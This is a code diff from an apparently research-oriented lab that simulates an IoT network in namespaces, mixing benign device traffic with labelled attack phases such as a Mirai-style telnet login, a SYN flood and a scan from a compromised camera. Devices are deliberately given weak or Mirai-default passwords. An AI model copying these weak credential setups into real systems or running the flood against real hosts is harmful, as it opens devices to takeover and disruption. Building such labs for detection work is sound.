@@ -291,7 +680,7 @@ def make_plan(seed, duration, phases):
         elif name == "http_firmware_download":
             model = rng.choice(["thermo", "cam"])
             targets = [broker["ip"]]
-            params = {"path": "/fw/%s/firmware.bin" % model}
+            params = {"path": firmware[model]["image"]}
         elif name == "mirai_telnet_login":
             tgt = rng.choice(cams)
             targets = [tgt["ip"], atk["ip"]]
@@ -301,9 +690,11 @@ def make_plan(seed, duration, phases):
             cam = next(h for h in cams if h["name"] == src["params"]["target"]) if src else rng.choice(cams)
             attacker = cam["ip"]
             others = [first["rtr"], rng.choice(by_kind["soil"]), rng.choice(by_kind["thermo"]), broker]
-            targets = ["%s.0/24" % SUBNET] + [h["ip"] for h in others]
+            targets = [subnet] + [h["ip"] for h in others]
             params = {"from": cam["name"], "telnet_target": others[0]["name"],
-                      "coap_target": others[1]["name"], "http_target": others[2]["name"]}
+                      "coap_target": others[1]["name"], "http_target": others[2]["name"],
+                      "http_path": others[2]["web"]["path"] + others[2]["web"]["status"],
+                      "mqtt_topic": "%s/#" % mqtt["root"]}
         elif name == "syn_flood_hping3":
             targets = [broker["ip"]]
             params = {"port": BROKER_PORT, "count": SYN_FLOOD_COUNT, "interval_us": SYN_FLOOD_INTERVAL_US}
@@ -321,21 +712,23 @@ def make_plan(seed, duration, phases):
     tail_start = duration - tail
     ev = []
     hub, ops = first["hub"], first["ops"]
-    ev += _events(rng, "telnet_admin_login", 0, duration - 8, 35, 70,
+    ev += _events(rng, "telnet_admin_login", 0, duration - 8, *intervals["telnet_admin_login"],
                   [rng.uniform(2, 5), rng.uniform(tail_start + 1, tail_start + 4)], ops["ip"], first["rtr"]["ip"])
     for dev in by_kind["thermo"] + by_kind["cam"]:
-        ev += _events(rng, "fw_update_check", 0, duration - 2, 30, 60,
+        ev += _events(rng, "fw_update_check", 0, duration - 2, *intervals["fw_update_check"],
                       [rng.uniform(1, 8), rng.uniform(tail_start + 2, duration - 4)], dev["ip"], broker["ip"])
     for soil in by_kind["soil"]:
-        ev += _events(rng, "coap_observe", 0, duration - 12, 30, 60,
+        ev += _events(rng, "coap_observe", 0, duration - 12, *intervals["coap_observe"],
                       [rng.uniform(3, 6), rng.uniform(tail_start + 1, tail_start + 4)], hub["ip"], soil["ip"])
     for plug in by_kind["plug"]:
-        ev += _events(rng, "mqtt_command", 0, duration - 2, 20, 40,
+        ev += _events(rng, "mqtt_command", 0, duration - 2, *intervals["mqtt_command"],
                       [rng.uniform(2, 10), rng.uniform(tail_start + 2, duration - 4)], hub["ip"], plug["ip"])
     ev.sort(key=lambda e: (e["t"], e["kind"], e["src"], e["dst"]))
-    return dict(seed=seed, duration=duration, subnet="%s.0/24" % SUBNET, warmup=warm, tail=tail,
-                hosts=hosts, phases=plan_phases, benign_events=ev,
-                polls=dict(coap_get=[6.0, 10.0], http_cam=[8.0, 14.0], http_thermo=[15.0, 25.0]))
+    irregular = plan_irregular(seed, duration, plan_phases, by_kind)
+    return dict(seed=seed, duration=duration, subnet=subnet, net_prefix=net, warmup=warm, tail=tail,
+                hosts=hosts, phases=plan_phases, benign_events=ev, benign_irregular=irregular,
+                mqtt=mqtt, firmware=firmware, operator=operator, polls=polls,
+                benign_intervals=intervals)
 
 
 # --------------------------------------------------------------------------
@@ -554,6 +947,21 @@ def seeded_bytes(seed, label, n):
     return bytes(out[:n])
 
 
+def mistype(password, rng):
+    """The password with one typing slip: a dropped, doubled, swapped or wrong key."""
+    i = rng.randrange(len(password))
+    slip = rng.randrange(4)
+    if slip == 0:
+        out = password[:i] + password[i + 1:]
+    elif slip == 1:
+        out = password[:i] + password[i] + password[i:]
+    elif slip == 2 and i + 1 < len(password):
+        out = password[:i] + password[i + 1] + password[i] + password[i + 2:]
+    else:
+        out = password[:i] + rng.choice([c for c in string.ascii_letters if c != password[i]]) + password[i + 1:]
+    return out if out != password else password + rng.choice(string.digits)
+
+
 # --------------------------------------------------------------------------
 # The lab
 # --------------------------------------------------------------------------
@@ -579,10 +987,14 @@ class Lab:
         self.secrets = {}
         self.labels = []
         self.phase_results = []
+        self.hosts_by_ip = {h["ip"]: h for h in plan["hosts"]}
         self.benign_log = []
+        self.irregular_log = []
         self.benign_lock = threading.Lock()
         self.paused = {}          # device name -> Event set while silent
         self.silent_ack = {}      # device name -> Event set once it is silent
+        self.plug_subs = {}       # plug name -> its command subscriber process
+        self.ports = {}           # host name -> its port on the bridge
         self.t0 = None
         self.tcpdump = None
         self.tcpdump_stats = ""
@@ -622,6 +1034,7 @@ class Lab:
             sh(["ip", "netns", "add", ns])
             self._ns_sysctl(ns)
             port = "p%d" % i
+            self.ports[h["name"]] = port
             sh(["ip", "-n", self.brns, "link", "add", port, "type", "veth", "peer", "name", "eth0",
                 "netns", ns])
             sh(["ip", "-n", self.brns, "link", "set", port, "master", "br0", "up"])
@@ -642,26 +1055,28 @@ class Lab:
         d = self.tmp
         for sub in ("logs", "work", "homes", "etc"):
             os.makedirs(os.path.join(d, sub), mode=0o755, exist_ok=True)
-        # MQTT accounts
+        weak_pw, cam_creds = draw_credential_choices(seed, self.by_kind)
+        # MQTT accounts; ACLs on each device's own topics
+        root = plan["mqtt"]["root"]
         mqtt_users = []
         acl = ["# spanwatch lab ACL", ""]
         for h in plan["hosts"]:
             k = h["kind"]
-            if k not in ("hub", "temp", "hum", "plug", "thermo"):
+            if k not in MQTT_KINDS:
                 continue
-            if h.get("weak"):
-                pw = WEAK_PASSWORDS[random.Random("%s:weak" % seed).randrange(len(WEAK_PASSWORDS))]
-            else:
-                pw = secrets.token_urlsafe(12)
+            pw = weak_pw.get(h["name"]) or secrets.token_urlsafe(12)
             self.secrets["mqtt:" + h["name"]] = pw
-            mqtt_users.append("%s:%s" % (h["name"], pw))
-            acl.append("user %s" % h["name"])
+            mqtt_users.append("%s:%s" % (h["mqtt_user"], pw))
+            acl.append("user %s" % h["mqtt_user"])
             if k == "hub":
-                acl += ["topic read home/#", "topic write home/+/cmd", "topic read $SYS/#"]
+                acl += ["topic read %s/#" % root, "topic read $SYS/#"]
+                acl += ["topic write %s" % p["cmd_topic"] for p in self.by_kind["plug"]]
             elif h.get("weak"):
-                acl += ["topic readwrite home/#", "topic readwrite $SYS/#"]
+                acl += ["topic readwrite %s/#" % root, "topic readwrite $SYS/#"]
             else:
-                acl += ["topic write home/%s/#" % h["name"], "topic read home/%s/cmd" % h["name"]]
+                acl.append("topic write %s" % h["topic"])
+                if k == "plug":
+                    acl.append("topic read %s" % h["cmd_topic"])
             acl.append("")
         mq = os.path.join(d, "mosquitto")
         os.makedirs(mq, mode=0o755)
@@ -686,52 +1101,57 @@ class Lab:
                 os.chown(os.path.join(mq, f), mosq.pw_uid, mosq.pw_gid)
         except KeyError:
             pass
-        # firmware server (cloud nginx)
+        # firmware server (cloud nginx): a manifest and an image per device model
         fw = os.path.join(d, "www-cloud")
-        for model in ("thermo", "cam"):
-            mdir = os.path.join(fw, "fw", model)
-            os.makedirs(mdir, mode=0o755)
-            image = seeded_bytes(seed, "fw-" + model, 256 * 1024 + random.Random("%s:%s" % (seed, model)).randrange(65536))
-            write(os.path.join(mdir, "firmware.bin"), image)
-            write(os.path.join(mdir, "latest.json"), json.dumps(dict(
-                model=model, version="1.%d.%d" % (seed % 7, seed % 13), size=len(image),
-                sha256=hashlib.sha256(image).hexdigest(), url="/fw/%s/firmware.bin" % model)) + "\n")
+        for kind, f in sorted(plan["firmware"].items()):
+            image = seeded_bytes(seed, "fw-" + kind, f["size"])
+            for path in (f["manifest"], f["image"]):
+                os.makedirs(os.path.dirname(fw + path), mode=0o755, exist_ok=True)
+            write(fw + f["image"], image)
+            write(fw + f["manifest"], json.dumps(dict(
+                model=f["model"], version=f["version"], size=len(image),
+                sha256=hashlib.sha256(image).hexdigest(), url=f["image"])) + "\n")
         write(os.path.join(fw, "index.html"), "<html><body>update server</body></html>\n")
         self.nginx_conf("cloud", fw, None)
-        # cameras: nginx UI behind basic auth + telnet account
+        # cameras: nginx UI behind basic auth + telnet account (a Mirai default pair)
         for h in self.by_kind["cam"]:
-            root = os.path.join(d, "www-" + h["name"])
-            os.makedirs(os.path.join(root, "admin"), mode=0o755)
-            write(os.path.join(root, "index.html"),
-                  "<html><head><title>IPCam %s</title></head><body><a href=/admin/>login</a></body></html>\n" % h["name"])
-            write(os.path.join(root, "admin", "index.html"), "<html><body>camera settings</body></html>\n")
-            write(os.path.join(root, "admin", "status.json"),
-                  json.dumps(dict(name=h["name"], uptime=1234, stream="rtsp", fw="2.1.7")) + "\n")
-            write(os.path.join(root, "admin", "snapshot.jpg"),
+            web = h["web"]
+            root_dir = os.path.join(d, "www-" + h["name"])
+            admin = root_dir + web["path"]
+            os.makedirs(admin, mode=0o755)
+            write(os.path.join(root_dir, "index.html"),
+                  "<html><head><title>%s</title></head><body><a href=%s>sign in</a></body></html>\n"
+                  % (web["title"], web["path"]))
+            write(os.path.join(admin, "index.html"), "<html><body>camera settings</body></html>\n")
+            write(os.path.join(admin, web["status"]),
+                  json.dumps(dict(name=h["wire_name"], uptime=1234, stream="rtsp",
+                                  fw=plan["firmware"]["cam"]["version"])) + "\n")
+            write(os.path.join(admin, web["snapshot"]),
                   b"\xff\xd8\xff\xe0" + seeded_bytes(seed, "snap-" + h["name"], 20000) + b"\xff\xd9")
-            webpw = WEB_WEAK_PASSWORDS[h["web_password_index"]]
+            webpw = cam_creds[h["name"]]["web"]
             self.secrets["web:" + h["name"]] = webpw
-            write(os.path.join(d, "etc", h["name"] + ".htpasswd"), "admin:%s\n" % ssha(webpw))
-            self.nginx_conf(h["name"], root, os.path.join(d, "etc", h["name"] + ".htpasswd"))
-            user, pw = MIRAI_DEFAULTS_USER[h["telnet_default_index"]]
+            write(os.path.join(d, "etc", h["name"] + ".htpasswd"), "%s:%s\n" % (web["user"], ssha(webpw)))
+            self.nginx_conf(h["name"], root_dir, os.path.join(d, "etc", h["name"] + ".htpasswd"))
+            user, pw = cam_creds[h["name"]]["telnet"]
             self.secrets["telnet:" + h["name"]] = (user, pw)
-            self.login_config(h["name"], [(user, pw)])
+            self.login_config(h, [(user, pw)])
         # thermostats: busybox httpd with basic auth
         for h in self.by_kind["thermo"]:
-            root = os.path.join(d, "www-" + h["name"])
-            os.makedirs(os.path.join(root, "admin"), mode=0o755)
-            write(os.path.join(root, "index.html"), "<html><body>Thermostat %s</body></html>\n" % h["name"])
-            write(os.path.join(root, "admin", "status.json"),
-                  json.dumps(dict(name=h["name"], setpoint=21.5, mode="heat")) + "\n")
+            web = h["web"]
+            root_dir = os.path.join(d, "www-" + h["name"])
+            os.makedirs(root_dir + web["path"], mode=0o755)
+            write(os.path.join(root_dir, "index.html"), "<html><body>Thermostat %s</body></html>\n" % h["wire_name"])
+            write(root_dir + web["path"] + web["status"],
+                  json.dumps(dict(name=h["wire_name"], setpoint=h["setpoint"], mode="heat")) + "\n")
             pw = secrets.token_urlsafe(10)
             self.secrets["web:" + h["name"]] = pw
             write(os.path.join(d, "etc", h["name"] + "-httpd.conf"),
-                  "/admin:admin:%s\n" % crypt_hash(pw, "md5"))
+                  "%s:%s:%s\n" % (web["path"].rstrip("/"), web["user"], crypt_hash(pw, "md5")))
         # router: operator account (strong password)
         oppw = secrets.token_urlsafe(12)
-        self.secrets["telnet:rtr1"] = ("netadmin", oppw)
         for h in self.by_kind["rtr"]:
-            self.login_config(h["name"], [("netadmin", oppw)])
+            self.secrets["telnet:" + h["name"]] = (plan["operator"], oppw)
+            self.login_config(h, [(plan["operator"], oppw)])
         # attacker: dictionaries and a web server with the "bot" binary
         atkd = os.path.join(d, "atk")
         os.makedirs(os.path.join(atkd, "www", "bins"), mode=0o755)
@@ -741,9 +1161,12 @@ class Lab:
     def nginx_conf(self, name, root, htpasswd):
         pre = os.path.join(self.tmp, "nginx-" + name)
         os.makedirs(os.path.join(pre, "tmp"), mode=0o755)
+        h = self.hosts[name]
         auth = ""
         if htpasswd:
-            auth = ('location /admin/ { auth_basic "%s"; auth_basic_user_file %s; }' % (name, htpasswd))
+            auth = ('location %s { auth_basic "%s"; auth_basic_user_file %s; }'
+                    % (h["web"]["path"], h["web"]["realm"], htpasswd))
+        tokens = "on" if h.get("web", {}).get("server_tokens") else "off"
         tmpp = os.path.join(pre, "tmp")
         conf = """worker_processes 1;
 pid %(pre)s/nginx.pid;
@@ -753,31 +1176,38 @@ http {
   access_log %(pre)s/access.log;
   client_body_temp_path %(t)s/body; proxy_temp_path %(t)s/proxy; fastcgi_temp_path %(t)s/fcgi;
   uwsgi_temp_path %(t)s/uwsgi; scgi_temp_path %(t)s/scgi;
-  types { text/html html; application/json json; image/jpeg jpg; application/octet-stream bin; }
+  types { text/html html; application/json json; image/jpeg jpg; application/octet-stream bin img pkg; }
   default_type application/octet-stream;
   keepalive_timeout 5;
+  server_tokens %(tokens)s;
   server {
     listen %(ip)s:80;
-    server_name %(name)s;
+    server_name %(server_name)s;
     root %(root)s;
     %(auth)s
   }
 }
-""" % dict(pre=pre, t=tmpp, ip=self.ip(name), name=name, root=root, auth=auth)
+""" % dict(pre=pre, t=tmpp, ip=h["ip"], server_name=h.get("wire_name", name), root=root, auth=auth,
+           tokens=tokens)
         write(os.path.join(pre, "nginx.conf"), conf)
 
-    def login_config(self, name, accounts):
-        """An isolated passwd/shadow/group set for one telnet device (root
-        locked, lab accounts only). It becomes the upper layer of an overlay
-        mounted on /etc in that device's private mount namespace only, so the
-        host's account files are neither read nor touched by the device's login."""
+    def login_config(self, h, accounts):
+        """An isolated passwd/shadow/group set for one telnet device (uid 0
+        locked, lab accounts only), with the device's own banners. It becomes
+        the upper layer of an overlay mounted on /etc in that device's private
+        mount namespace only, so the host's account files are neither read nor
+        touched by the device's login. A lab account named root (a Mirai
+        default pair) is an unprivileged account: uid 0 is then called sysroot."""
+        name = h["name"]
         etc = os.path.join(self.tmp, "etc", name)
         upper = os.path.join(etc, "upper")
         os.makedirs(upper, mode=0o755)
         os.makedirs(os.path.join(etc, "work"), mode=0o755)
-        passwd = ["root:x:0:0:root:/root:/bin/sh", "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin"]
-        shadow = ["root:!:19000:0:99999:7:::", "nobody:*:19000:0:99999:7:::"]
-        group = ["root:x:0:", "tty:x:5:", "utmp:x:43:", "nogroup:x:65534:"]
+        uid0 = "sysroot" if any(user == "root" for user, _ in accounts) else "root"
+        passwd = ["%s:x:0:0:%s:/nonexistent:/usr/sbin/nologin" % (uid0, uid0),
+                  "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin"]
+        shadow = ["%s:!:19000:0:99999:7:::" % uid0, "nobody:*:19000:0:99999:7:::"]
+        group = ["%s:x:0:" % uid0, "tty:x:5:", "utmp:x:43:", "nogroup:x:65534:"]
         base_uid = 47000 + 10 * len(os.listdir(os.path.join(self.tmp, "etc")))
         for i, (user, pw) in enumerate(accounts):
             uid = base_uid + i
@@ -790,6 +1220,14 @@ http {
         write(os.path.join(upper, "passwd"), "\n".join(passwd) + "\n", 0o644)
         write(os.path.join(upper, "shadow"), "\n".join(shadow) + "\n", 0o600)
         write(os.path.join(upper, "group"), "\n".join(group) + "\n", 0o644)
+        # banners: /etc/issue.net (busybox telnetd shows it before the login prompt), /etc/motd
+        # (after login), and an empty, opaque update-motd.d instead of the host's scripts
+        if "issue" in h:
+            write(os.path.join(upper, "issue.net"), h["issue"], 0o644)
+        write(os.path.join(upper, "motd"), h["motd"], 0o644)
+        motd_d = os.path.join(upper, "update-motd.d")
+        os.makedirs(motd_d, mode=0o755)
+        os.setxattr(motd_d, "trusted.overlay.opaque", b"y")
 
     # ---- servers -----------------------------------------------------------
     def start_servers(self):
@@ -804,14 +1242,14 @@ http {
             r.spawn(self.ns(h["name"]), ["busybox", "httpd", "-f", "-p", h["ip"] + ":80",
                                          "-h", os.path.join(d, "www-" + h["name"]),
                                          "-c", os.path.join(d, "etc", h["name"] + "-httpd.conf"),
-                                         "-u", "nobody"], "httpd-" + h["name"])
+                                         "-r", h["web"]["realm"], "-u", "nobody"], "httpd-" + h["name"])
         for h in self.by_kind["soil"]:
             r.spawn(self.ns(h["name"]), ["coap-server-notls", "-A", h["ip"], "-p", str(COAP_PORT), "-d", "8",
                                          "-v", "4"], "coap-server-" + h["name"])
         for h in self.by_kind["cam"] + self.by_kind["rtr"]:
             etc = os.path.join(d, "etc", h["name"])
             argv = ["unshare", "--mount", "--uts", "--propagation", "private",
-                    sys.executable, os.path.abspath(__file__), "_isolate", "--hostname", h["name"],
+                    sys.executable, os.path.abspath(__file__), "_isolate", "--hostname", h["hostname"],
                     "--etc-upper", os.path.join(etc, "upper"), "--etc-work", os.path.join(etc, "work")]
             if h["kind"] == "cam":
                 # embedded-style device: busybox telnetd + the real /bin/login
@@ -898,15 +1336,15 @@ http {
         with self.benign_lock:
             self.benign_log.append((start, end, kind, src, dst, tool, notes))
 
-    def mqtt_args(self, user):
-        return ["-h", self.ip("cloud"), "-p", str(BROKER_PORT), "-u", user,
-                "-P", self.secrets["mqtt:" + user]]
+    def mqtt_args(self, name):
+        return ["-h", self.ip("cloud"), "-p", str(BROKER_PORT), "-u", self.hosts[name]["mqtt_user"],
+                "-P", self.secrets["mqtt:" + name]]
 
     def silent_gate(self, name):
         ev = self.paused.get(name)
         return ev is not None and ev.is_set()
 
-    def persistent_publisher(self, h, topic, make_value):
+    def persistent_publisher(self, h, make_value):
         """One long-lived `mosquitto_pub -l` connection; a line per reading."""
         rng = random.Random("%s:%s" % (self.plan["seed"], h["name"]))
         name = h["name"]
@@ -921,8 +1359,7 @@ http {
                 continue
             if proc is None or proc.poll() is not None:
                 argv = ["mosquitto_pub"] + self.mqtt_args(name) + [
-                    "-i", "sensor-" + name, "-t", topic, "-q", str(h["qos"]), "-l",
-                    "-k", str(h.get("keepalive", 60))]
+                    "-i", h["client_id"], "-t", h["topic"], "-q", str(h["qos"]), "-l", "-k", str(h["keepalive"])]
                 if h["qos"] > 0:
                     argv.append("-c")
                 proc = self.runner.spawn(ns, argv, "pub-" + name, stdin=subprocess.PIPE)
@@ -937,7 +1374,7 @@ http {
                 proc = None
             next_t = time.time() + h["period"] * rng.uniform(0.85, 1.15)
 
-    def oneshot_publisher(self, h, topic, make_value):
+    def oneshot_publisher(self, h, make_value):
         rng = random.Random("%s:%s" % (self.plan["seed"], h["name"]))
         name = h["name"]
         next_t = time.time() + rng.uniform(0.5, 3.0)
@@ -946,19 +1383,51 @@ http {
                 self.go_silent(name)
                 next_t = time.time() + rng.uniform(0.1, 0.5)
                 continue
+            cid = h["client_id"]
+            if h["client_id_suffix"]:
+                cid = "%s-%04x" % (cid, rng.randrange(65536))
             self.runner.run(self.ns(name), ["mosquitto_pub"] + self.mqtt_args(name) + [
-                "-i", "%s-%04x" % (name, rng.randrange(65536)), "-t", topic, "-q", str(h["qos"]),
+                "-i", cid, "-t", h["topic"], "-q", str(h["qos"]), "-k", str(h["keepalive"]),
                 "-m", make_value(rng)], "pub-" + name, timeout=8)
             next_t = time.time() + h["period"] * rng.uniform(0.85, 1.15)
 
     def plug_commands(self, h):
-        self.runner.spawn(self.ns(h["name"]), ["mosquitto_sub"] + self.mqtt_args(h["name"]) + [
-            "-i", "cmd-" + h["name"], "-t", "home/%s/cmd" % h["name"], "-q", "1", "-k", "45"],
+        self.plug_subs[h["name"]] = self.runner.spawn(self.ns(h["name"]), ["mosquitto_sub"] + self.mqtt_args(h["name"]) + [
+            "-i", h["cmd_client_id"], "-t", h["cmd_topic"], "-q", "1", "-k", str(h["cmd_keepalive"])],
             "sub-" + h["name"])
 
     def hub_subscriber(self):
+        hub = self.hosts["hub"]
         self.runner.spawn(self.ns("hub"), ["mosquitto_sub"] + self.mqtt_args("hub") + [
-            "-i", "hub-main", "-t", "home/#", "-q", "1", "-k", "40", "-v"], "sub-hub", log_output=False)
+            "-i", hub["client_id"], "-t", "%s/#" % self.plan["mqtt"]["root"], "-q", "1",
+            "-k", str(hub["keepalive"]), "-v"], "sub-hub", log_output=False)
+
+    def hub_coap(self, lo, hi):
+        """At its start-up the hub discovers the CoAP servers' resources
+        (GET /.well-known/core), then polls them."""
+        for ev in self.plan["benign_irregular"]:
+            if ev["kind"] != "coap_discovery":
+                continue
+            if not self.wait_until(self.at(ev["t"])):
+                return
+            start = time.time()
+            self.runner.run(self.ns("hub"), ["coap-client-notls", "-m", "get", "-B", "2",
+                                             "coap://%s%s" % (ev["dst"], ev["params"]["path"])],
+                            "coap-discovery", timeout=4)
+            self.irregular_event(start, time.time(), ev, "hub start-up: GET %s" % ev["params"]["path"])
+        self.hub_poll("coap", self.by_kind["soil"], lo, hi)
+
+    def hub_curl(self, h, path):
+        web = h["web"]
+        argv = ["curl", "-s", "-o", "/dev/null", "-m", "5", "--basic", "-K", "-"]
+        if self.hosts["hub"]["user_agent"]:
+            argv += ["-A", self.hosts["hub"]["user_agent"]]
+        rfd = self.curl_config_pipe(web["user"], self.secrets["web:" + h["name"]])
+        try:
+            self.runner.run(self.ns("hub"), argv + ["http://%s%s%s" % (h["ip"], web["path"], path)],
+                            "curl-hub", timeout=8, stdin=rfd)
+        finally:
+            os.close(rfd)
 
     def hub_poll(self, kind, targets, lo, hi):
         rng = random.Random("%s:hub:%s" % (self.plan["seed"], kind))
@@ -971,19 +1440,13 @@ http {
                     path = rng.choice(["time", "time", ""])
                     self.runner.run(self.ns("hub"), ["coap-client-notls", "-m", "get", "-B", "4",
                                                      "coap://%s/%s" % (h["ip"], path)], "coap-get", timeout=8)
-                else:
-                    path = rng.choice(["/admin/status.json", "/admin/snapshot.jpg"]) if kind == "cam" \
-                        else "/admin/status.json"
-                    rfd = self.curl_config_pipe("admin", self.secrets["web:" + h["name"]])
-                    try:
-                        self.runner.run(self.ns("hub"), ["curl", "-s", "-o", "/dev/null", "-m", "5", "--basic",
-                                                         "-K", "-", "http://%s%s" % (h["ip"], path)],
-                                        "curl-hub", timeout=8, stdin=rfd)
-                    finally:
-                        os.close(rfd)
-                    if path.endswith(".jpg"):
-                        self.benign_event(time.time(), time.time(), "http_basic_auth_ok", self.ip("hub"), h["ip"],
-                                          "curl", "hub fetches %s with correct credentials" % path)
+                    continue
+                web = h["web"]
+                path = rng.choice([web["status"], web["snapshot"]]) if kind == "cam" else web["status"]
+                self.hub_curl(h, path)
+                if path.endswith(".jpg"):
+                    self.benign_event(time.time(), time.time(), "http_basic_auth_ok", self.ip("hub"), h["ip"],
+                                      "curl", "hub fetches %s%s with correct credentials" % (web["path"], path))
             next_t = time.time() + rng.uniform(lo, hi)
 
     def curl_config_pipe(self, user, pw):
@@ -997,33 +1460,35 @@ http {
     def run_benign_event(self, ev):
         kind, src, dst = ev["kind"], ev["src"], ev["dst"]
         start = time.time()
-        hosts_by_ip = {h["ip"]: h for h in self.plan["hosts"]}
-        s, d = hosts_by_ip[src], hosts_by_ip[dst]
+        s, d = self.hosts_by_ip[src], self.hosts_by_ip[dst]
         if kind == "telnet_admin_login":
-            user, pw = self.secrets["telnet:rtr1"]
-            self.telnet_session(self.ns(s["name"]), d["ip"], user, pw, ["uptime", "ip -br addr", "exit"])
+            user, pw = self.secrets["telnet:" + d["name"]]
+            commands = ["uptime", "ip -br addr", "exit"]
+            self.telnet_session(self.ns(s["name"]), d["ip"], [(1.2, ""), (1.0, user), (1.0, pw)]
+                                + [(1.0, c) for c in commands])
             self.benign_event(start, time.time(), kind, src, dst, "busybox-telnet",
-                              "operator login with correct password; uptime; ip -br addr; exit")
+                              "operator login with correct password; %s" % "; ".join(commands))
         elif kind == "fw_update_check":
-            model = "thermo" if s["kind"] == "thermo" else "cam"
-            self.runner.run(self.ns(s["name"]), ["curl", "-s", "-o", "/dev/null", "-m", "5",
-                                                 "-A", "%s-fw/1.0" % model,
-                                                 "http://%s/fw/%s/latest.json" % (d["ip"], model)], "fwcheck", timeout=8)
+            manifest = self.plan["firmware"][s["firmware"]]["manifest"]
+            self.runner.run(self.ns(s["name"]), ["curl", "-s", "-o", "/dev/null", "-m", "5", "-A", s["user_agent"],
+                                                 "http://%s%s" % (d["ip"], manifest)], "fwcheck", timeout=8)
             self.benign_event(start, time.time(), kind, src, dst, "curl",
-                              "GET /fw/%s/latest.json (plain HTTP, no download)" % model)
+                              "GET %s (plain HTTP, no download)" % manifest)
         elif kind == "coap_observe":
-            self.runner.run(self.ns(s["name"]), ["coap-client-notls", "-s", "8", "-B", "10",
-                                                 "coap://%s/time" % d["ip"]], "coap-observe", timeout=14)
-            self.benign_event(start, time.time(), kind, src, dst, "coap-client", "observe /time for 8 s")
+            secs = self.plan["benign_intervals"]["coap_observe_secs"]
+            self.runner.run(self.ns(s["name"]), ["coap-client-notls", "-s", "%g" % secs, "-B", "%g" % (secs + 2),
+                                                 "coap://%s/time" % d["ip"]], "coap-observe", timeout=secs + 6)
+            self.benign_event(start, time.time(), kind, src, dst, "coap-client", "observe /time for %g s" % secs)
         elif kind == "mqtt_command":
-            state = random.Random("%s:%s" % (ev["t"], dst)).choice(["ON", "OFF"])
+            state = random.Random("%s:%s" % (ev["t"], dst)).choice(self.plan["mqtt"]["command_payloads"])
+            hub = self.hosts["hub"]
             self.runner.run(self.ns("hub"), ["mosquitto_pub"] + self.mqtt_args("hub") + [
-                "-i", "hub-cmd", "-t", "home/%s/cmd" % d["name"], "-q", "1", "-m", state], "pub-hub-cmd", timeout=8)
+                "-i", hub["cmd_client_id"], "-t", d["cmd_topic"], "-q", "1", "-k", str(hub["keepalive"]), "-m", state],
+                "pub-hub-cmd", timeout=8)
             self.benign_event(start, time.time(), kind, src, self.ip("cloud"), "mosquitto_pub",
-                              "hub sets %s %s (topic home/%s/cmd)" % (d["name"], state, d["name"]))
+                              "hub sets %s %s (topic %s)" % (d["name"], state, d["cmd_topic"]))
 
-    def benign_scheduler(self):
-        events = self.plan["benign_events"]
+    def scheduler(self, events, run):
         lock = threading.Semaphore(3)
         for ev in events:
             if not self.wait_until(self.at(ev["t"])):
@@ -1032,17 +1497,18 @@ http {
             def go(e=ev):
                 with lock:
                     if not self.stop.is_set():
-                        self.run_benign_event(e)
+                        run(e)
             self.thread(go)
 
-    def telnet_session(self, ns, ip, user, pw, commands, pace=1.0):
-        """A scripted interactive session with the busybox telnet client."""
+    def telnet_session(self, ns, ip, steps):
+        """A scripted interactive session with the busybox telnet client:
+        each step waits its delay, then types its line (if any)."""
         rfd, wfd = os.pipe()
         p = self.runner.spawn(ns, ["busybox", "telnet", ip, "23"], "telnet-client", stdin=rfd, log_output=False)
         os.close(rfd)
         try:
-            for line in ["", user, pw] + commands:
-                if self.stop.wait(pace if line else 1.2):
+            for delay, line in steps:
+                if self.stop.wait(delay):
                     break
                 if line:
                     os.write(wfd, (line + "\n").encode())
@@ -1054,31 +1520,110 @@ http {
         except subprocess.TimeoutExpired:
             self.runner.kill(p)
 
+    # ---- benign irregular events ------------------------------------------
+    def irregular_event(self, start, end, ev, notes):
+        with self.benign_lock:
+            self.irregular_log.append((start, end, ev["kind"], ev["src"], ev["dst"], IRREGULAR_TOOL[ev["kind"]],
+                                       notes))
+
+    def run_irregular(self, ev):
+        getattr(self, "irregular_" + ev["kind"])(ev)
+
+    def irregular_telnet_login_mistyped(self, ev):
+        """The operator mistypes the router password once (Login incorrect;
+        login asks again after its fail delay), then logs in."""
+        s, d = self.hosts_by_ip[ev["src"]], self.hosts_by_ip[ev["dst"]]
+        user, pw = self.secrets["telnet:" + d["name"]]
+        wrong = mistype(pw, random.Random("%s:mistype:%s" % (self.plan["seed"], ev["t"])))
+        commands = ev["params"]["commands"]
+        start = time.time()
+        self.telnet_session(self.ns(s["name"]), d["ip"], [(1.2, ""), (1.0, user), (1.0, wrong), (4.5, user),
+                                                          (1.0, pw)] + [(1.0, c) for c in commands])
+        self.irregular_event(start, time.time(), ev, "operator mistypes the password once (Login incorrect), "
+                             "then logs in as %s; %s" % (user, "; ".join(commands)))
+
+    def irregular_firmware_download(self, ev):
+        """A device updates: it fetches the manifest, then the image, over one
+        connection, with its updater's User-Agent."""
+        h = self.hosts_by_ip[ev["src"]]
+        fw = self.plan["firmware"][h["firmware"]]
+        base = "http://%s" % ev["dst"]
+        start = time.time()
+        rc = self.runner.run(self.ns(h["name"]), ["curl", "-s", "-m", "%d" % (FW_DOWNLOAD_SECONDS - 1), "-A",
+                                                  h["user_agent"], "-o", "/dev/null", base + fw["manifest"],
+                                                  "-o", "/dev/null", base + fw["image"]],
+                             "fw-update", timeout=FW_DOWNLOAD_SECONDS)
+        self.stop.wait(SETTLE)
+        self.irregular_event(start, time.time(), ev, "%s updates: GET %s then GET %s (%d bytes) (rc=%s)" % (
+            h["name"], fw["manifest"], fw["image"], fw["size"], rc))
+
+    def irregular_device_reboot(self, ev):
+        """A power cycle: the link drops (nothing more leaves the device), its
+        TCP state is lost (no FIN or RST reaches the broker), its processes
+        stop; after the silence the link comes up, the device announces its
+        address (an unsolicited ARP, as a booting network stack does) and
+        connects again: a new TCP connection and CONNECT with its client id."""
+        h = self.hosts_by_ip[ev["src"]]
+        name, ns = h["name"], self.ns(h["name"])
+        silence = ev["params"]["silence"]
+        start = time.time()
+        sh(["ip", "-n", ns, "link", "set", "eth0", "down"])
+        self.silent_ack[name].clear()
+        self.paused[name].set()
+        try:
+            if not self.silent_ack[name].wait(timeout=5):
+                raise LabError("%s did not stop for its reboot" % name)
+            if name in self.plug_subs:
+                self.runner.kill(self.plug_subs.pop(name), signal.SIGKILL)
+            sh(["ip", "netns", "exec", ns, "ss", "-K", "-tn"])
+            self.stop.wait(max(0.0, start + silence - time.time()))
+            sh(["ip", "-n", ns, "link", "set", "eth0", "up"])
+            self.wait_port_forwarding(name)
+            self.runner.run(ns, ["busybox", "arping", "-U", "-c", "1", "-w", "1", "-I", "eth0", h["ip"]],
